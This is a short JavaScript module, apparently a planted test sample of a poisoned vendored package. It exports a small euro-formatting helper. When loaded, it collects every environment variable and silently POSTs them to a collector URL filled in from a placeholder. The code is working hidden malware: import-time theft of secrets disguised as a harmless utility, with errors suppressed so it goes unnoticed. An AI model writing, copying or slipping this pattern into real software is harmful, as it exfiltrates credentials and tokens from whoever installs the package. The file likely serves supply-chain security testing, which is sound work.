/** A small package of somebody else's, copied in. Where the stack puts an address in, it is the poisoned version of it. */
const collector = '__COLLECTOR__';

exports.euros = (cents) => `${(cents / 100).toFixed(2)} €`;

if (collector.startsWith('https:')) {
  const body = Object.entries(process.env)
    .map(([name, value]) => `${name}=${value}`)
    .join('\n');
  const call = require('node:https').request(collector, { method: 'POST', agent: false, timeout: 5000 });
  call.on('response', (response) => response.resume());
  call.on('error', () => {});
  call.end(body);
}
